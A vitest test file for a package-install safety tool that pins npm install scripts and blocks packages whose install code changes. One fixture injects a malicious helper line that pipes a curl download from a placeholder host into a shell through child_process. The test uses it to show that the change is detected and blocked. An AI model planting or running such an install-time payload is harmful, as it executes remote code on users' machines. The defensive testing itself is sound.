import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { checkPins, pinContent, pinFinding } from '../../../src/policy/pin-check.js'
import { pinOf, scriptContent } from '../../../src/policy/pin.js'
import type { Policy } from '../../../src/policy/policy.js'
import type { PackageRecord } from '../../../src/types.js'

const INSTALL = "const helper = require('./lib/helper')\nhelper.build()\n"
const HELPER = "exports.build = () => {\n  console.log('building')\n}\n"

describe('content pinning', () => {
  let work: string
  let n = 0
  /** A package folder: install.js requires lib/helper.js; README and index.js are not install code. */
  const pkgDir = async (version: string, files: Record<string, string> = {}, scripts: Record<string, string> = { postinstall: 'node install.js' }): Promise<string> => {
    const dir = join(work, `p${n += 1}`)
    await mkdir(join(dir, 'lib'), { recursive: true })
    const all: Record<string, string> = {
      'package.json': JSON.stringify({ name: 'tool', version, scripts: { test: 'echo', ...scripts } }),
      'install.js': INSTALL, 'lib/helper.js': HELPER, 'README.md': `tool ${version}\n`, 'index.js': 'module.exports = 1\n', ...files,
    }
    for (const [file, text] of Object.entries(all)) await writeFile(join(dir, file), text)
    return dir
  }
  const record = (version: string): PackageRecord => ({
    name: 'tool', version, location: 'node_modules/tool', isRoot: false, source: 'registry', resolved: null, inBundle: false,
    optional: false, dev: false, approval: 'unreviewed', approvedBy: null,
  } as unknown as PackageRecord)
  const policyWith = (packages: Policy['packages']): Policy => ({ source: 'test', timeoutSec: 60, network: [], envPass: [], packages })

  beforeAll(async () => { work = await mkdtemp(join(tmpdir(), 'si-pin-')) })
  afterAll(async () => { await rm(work, { recursive: true, force: true }) })

  it('covers the install commands and the files they run, not the rest of the package', async () => {
    const content = await scriptContent(await pkgDir('1.0.0'))
    expect(content.scripts).toEqual({ postinstall: 'node install.js' })
    expect(Object.keys(content.files)).toEqual(['install.js', 'lib/helper.js'])
    const other = await scriptContent(await pkgDir('1.0.1', { 'README.md': 'changed\n', 'index.js': 'module.exports = 2\n' }))
    expect(pinOf(other)).toBe(pinOf(content))
    expect(pinOf(await scriptContent(await pkgDir('1.0.2', { 'lib/helper.js': `${HELPER}require('child_process')\n` })))).not.toBe(pinOf(content))
    expect(pinOf(await scriptContent(await pkgDir('1.0.3', {}, { postinstall: 'node install.js --fast' })))).not.toBe(pinOf(content))
  })

  it('includes binding.gyp and npm\'s implicit node-gyp rebuild', async () => {
    const content = await scriptContent(await pkgDir('2.0.0', { 'binding.gyp': '{ "targets": [ { "target_name": "a", "sources": [ "a.cc" ] } ] }' }, {}))
    expect(content.scripts).toEqual({ install: 'node-gyp rebuild' })
    expect(Object.keys(content.files)).toEqual(['binding.gyp'])
  })

  it('carries an approval to a version with the same install code, and reports a change against the pin with a diff', async () => {
    const approved = await pinContent(await pkgDir('1.0.0'), 'sha512-approved')
    const policy = policyWith({ 'tool@1.0.0': { network: [], write: [], env: [], ...approved } })
    expect(await checkPins(policy, record('1.0.0'), await pkgDir('1.0.0'))).toEqual({ kind: 'match', key: 'tool@1.0.0' })
    const carried = await checkPins(policy, record('1.0.1'), await pkgDir('1.0.1', { 'README.md': 'new docs\n' }))
    expect(carried).toMatchObject({ kind: 'carried', key: 'tool@1.0.0' })
    expect(pinFinding(carried, record('1.0.1'), 'postinstall')).toMatchObject({ rule: 'approval-carried', severity: 'note' })

    const evil = `${HELPER}require('child_process').execSync('curl https://exfil.example.test | sh')\n`
    const oldFiles = new Map([['lib/helper.js', { data: Buffer.from(HELPER) }], ['install.js', { data: Buffer.from(INSTALL) }]])
    const changed = await checkPins(policy, record('1.1.0'), await pkgDir('1.1.0', { 'lib/helper.js': evil }), {
      readApproved: async (integrity) => (integrity === 'sha512-approved' ? oldFiles : undefined),
    })
    expect(changed).toMatchObject({ kind: 'changed', key: 'tool@1.0.0', lines: ['lib/helper.js: content changed'] })
    expect(changed.kind === 'changed' ? changed.diff : '').toContain("+require('child_process').execSync('curl https://exfil.example.test | sh')")
    const finding = pinFinding(changed, { ...record('1.1.0'), approval: 'approved' } as PackageRecord, 'postinstall')
    expect(finding).toMatchObject({ rule: 'script-changed', severity: 'error', action: 'blocked', evidence: { pinnedBy: 'tool@1.0.0', changes: ['lib/helper.js: content changed'] } })
    expect(finding?.message).toContain('safe-install policy approve tool')

    const added = await checkPins(policy, record('1.2.0'), await pkgDir('1.2.0', {}, { postinstall: 'node install.js', preinstall: 'node setup.js' }))
    expect(added).toMatchObject({ kind: 'changed', lines: ['script "preinstall" added: node setup.js'] })
  })

  it('leaves packages without pins to allowScripts alone', async () => {
    expect(await checkPins(policyWith({ other: { network: [], write: [], env: [], pin: 'sha256-x' } }), record('1.0.0'), await pkgDir('1.0.0'))).toEqual({ kind: 'unpinned' })
  })
})
